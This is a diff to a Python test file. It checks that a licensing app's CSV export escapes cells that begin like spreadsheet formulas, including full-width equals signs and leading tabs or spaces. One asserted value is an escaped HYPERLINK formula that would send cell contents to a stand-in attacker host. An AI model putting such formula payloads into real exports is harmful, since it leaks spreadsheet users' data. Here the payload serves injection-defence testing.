@@ -447,6 +447,15 @@ def test_csv_export_cells_never_start_like_a_spreadsheet_formula(member, owner_c
     assert row["track"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Open")'
     assert row["end_user"] == "'@SUM(1+1)" and row["project"] == "'-2+3"
     assert row["issued_at"][0].isdigit() and row["code"].startswith("AMT-")
+    from licensing.views import _csv_cell
+
+    assert [_csv_cell(v) for v in (" =1+1", "\uff1dSUM(A1)", "\t1", "Plain - title", "")] == [
+        "' =1+1",
+        "'\uff1dSUM(A1)",
+        "'\t1",
+        "Plain - title",
+        "",
+    ]
 
 
 def test_a_projects_cue_sheet_lists_that_projects_licences_only(
